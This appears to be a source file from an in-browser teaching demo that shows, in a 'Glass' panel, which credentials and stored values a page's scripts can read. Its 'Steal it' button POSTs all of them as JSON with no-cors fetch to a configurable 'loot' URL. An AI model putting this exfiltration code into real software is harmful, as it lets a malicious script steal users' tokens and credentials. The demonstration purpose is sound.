import type { ReadonlySignal } from '@preact/signals';
import { useEffect, useState } from 'preact/hooks';
import { Step } from '../../look/step.tsx';
import { type Exhibit, type ExhibitKind, findExhibits } from './exhibit.ts';
import { type Reading, readEverything } from './readings.ts';

/** How often the panel looks again, in milliseconds. */
const INTERVAL = 300;

const KINDS: Readonly<Record<ExhibitKind, string>> = {
  bearer: 'works anywhere',
  opaque: 'opaque',
  bound: 'needs a key',
  handle: 'handle',
};

interface GlassProps {
  readonly overheard: ReadonlySignal<readonly string[]>;
  /** Where stolen strings go. */
  readonly loot: string;
  readonly onSteal: () => void;
}

/** What script in this page can read, live, and the button that takes all of it away. */
export function Glass({ overheard, loot, onSteal }: GlassProps) {
  const readings = useReadings(overheard);
  const exhibits = findExhibits(readings);
  const rest = readings.filter(({ value }) => !exhibits.some((exhibit) => value.includes(exhibit.value)));

  const steal = async () => {
    await fetch(loot, { method: 'POST', mode: 'no-cors', body: JSON.stringify(readings) });
    onSteal();
  };

  return (
    <section class="glass" aria-labelledby="glass-title">
      <header class="panel-head">
        <h2 id="glass-title">What script in this page can read</h2>
        <p>One bad dependency is enough to be that script.</p>
      </header>
      {exhibits.length === 0 ? (
        <p class="glass-none">No credential. Sign in to the notebook.</p>
      ) : (
        <ul class="exhibits" aria-label="Readable credentials">
          {exhibits.map((exhibit) => (
            <ExhibitCard key={exhibit.value} exhibit={exhibit} />
          ))}
        </ul>
      )}
      {rest.length > 0 && <OtherReadings readings={rest} />}
      <p class="glass-action">
        <button type="button" class="primary steal" disabled={exhibits.length === 0} onClick={steal}>
          <Step number={2} />
          Steal it
        </button>
      </p>
    </section>
  );
}

function ExhibitCard({ exhibit }: { exhibit: Exhibit }) {
  return (
    <li class={`exhibit ${exhibit.kind}`}>
      <p class="exhibit-head">
        <strong>{exhibit.what}</strong>
        <span class="kind">{KINDS[exhibit.kind]}</span>
      </p>
      <code>{exhibit.value}</code>
      <p>{exhibit.meaning}</p>
      <p class="source">{exhibit.sources.join(', ')}</p>
    </li>
  );
}

function OtherReadings({ readings }: { readings: readonly Reading[] }) {
  return (
    <details class="others">
      <summary>
        {readings.length === 1
          ? 'And one other value, no credential'
          : `And ${readings.length} other values, no credentials`}
      </summary>
      <dl>
        {readings.map(({ place, name, value }) => (
          <div key={`${place} ${name}`}>
            <dt>
              {place} {name}
            </dt>
            <dd>
              <code>{value}</code>
            </dd>
          </div>
        ))}
      </dl>
    </details>
  );
}

/** Storage does not tell the page that wrote to it, so the panel looks. */
function useReadings(overheard: ReadonlySignal<readonly string[]>): readonly Reading[] {
  const [readings, setReadings] = useState(() => readEverything(overheard.value));
  useEffect(() => {
    const look = () => {
      const current = readEverything(overheard.value);
      setReadings((previous) => (JSON.stringify(previous) === JSON.stringify(current) ? previous : current));
    };
    const timer = setInterval(look, INTERVAL);
    return () => clearInterval(timer);
  }, [overheard]);
  return readings;
}
